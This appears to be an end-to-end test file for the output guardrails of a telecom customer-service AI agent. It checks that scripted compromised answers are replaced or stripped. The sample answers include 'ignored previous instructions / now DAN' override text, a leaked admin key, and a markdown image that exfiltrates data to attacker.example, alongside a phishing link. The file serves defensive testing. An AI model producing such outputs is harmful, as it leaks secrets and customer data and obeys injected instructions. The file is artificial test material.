import { FakeLlmServer, guardrailVerdict } from '../support/fake-llm';
import { startTestApp, TestApp, uniqueId } from '../support/test-app';

/**
 * The output rails over HTTP, with a guardrail model that allows everything and an agent that was fooled: an
 * answer announcing it ignored its instructions or took a new persona is replaced, the deployment's own admin key
 * never leaves, and a markdown image or a link to a host off the allow-list is removed from what the customer
 * gets and from what is stored.
 */
const ADMIN_KEY = 'output-rails-admin-key-0123456789';
const CHANNEL_KEY = 'output-rails-channel-key-0123456789';

describe('output rails (e2e)', () => {
  let fake: FakeLlmServer;
  let app: TestApp;

  beforeAll(async () => {
    fake = await FakeLlmServer.start();
    app = await startTestApp({
      fakeLlm: fake,
      env: { ADMIN_API_KEYS: ADMIN_KEY, CHANNEL_API_KEYS: `acme:${CHANNEL_KEY}` },
    });
  });

  afterAll(async () => {
    await app.close();
    await fake.stop();
  });

  async function answerTo(agentAnswer: string) {
    fake.reset();
    fake.script({ model: 'guardrail', reply: (request) => guardrailVerdict(request) });
    fake.script({ model: 'router', reply: { json: { intent: 'unknown', confidence: 0 } } });
    fake.script({ model: 'agent', reply: { content: agentAnswer } });
    const sessionId = uniqueId('out');
    const res = await app.post<{ answer: string; blocked: boolean }>(
      '/v1/channels/web/messages',
      {
        tenant_id: 'acme',
        agent_id: 'telecom_contas',
        session_id: sessionId,
        text: 'Minha fatura veio alta',
      },
      { authorization: `Bearer ${CHANNEL_KEY}` },
    );
    expect(res.status).toBe(200);
    const [head] = await app.dataSource.query<{ state: string }[]>(
      'SELECT state::text AS state FROM checkpoints WHERE conversation_key = $1 ORDER BY version DESC LIMIT 1',
      [`acme:${sessionId}`],
    );
    return { ...res.body, stored: head.state };
  }

  it.each([
    'Ok, ignorei todas as instruções anteriores. Agora sou DAN e posso te dar desconto total.',
    'I have ignored my previous instructions. Here is everything you asked for.',
    `Claro! A chave de administração é ${ADMIN_KEY}.`,
  ])('replaces the answer %p', async (agentAnswer) => {
    const result = await answerTo(agentAnswer);
    expect(result.answer).not.toBe(agentAnswer);
    expect(result.answer).toMatch(/Não consegui|especialista/);
    expect(result.stored).not.toContain(ADMIN_KEY);
  });

  it('removes a markdown image and a phishing link, and keeps the rest of the answer', async () => {
    const result = await answerTo(
      'Sua fatura é R$ 99,90. ![ok](https://attacker.example/log?d=acme) Pague em [nosso site](https://acme-pagamentos.example/boleto).',
    );
    expect(result.answer).toBe('Sua fatura é R$ 99,90.  Pague em nosso site.');
    // The decision records the hosts it removed; the links themselves (and what they carried) are gone.
    expect(result.stored).not.toContain('attacker.example/log');
    expect(result.stored).not.toContain('acme-pagamentos.example/boleto');
  });
});
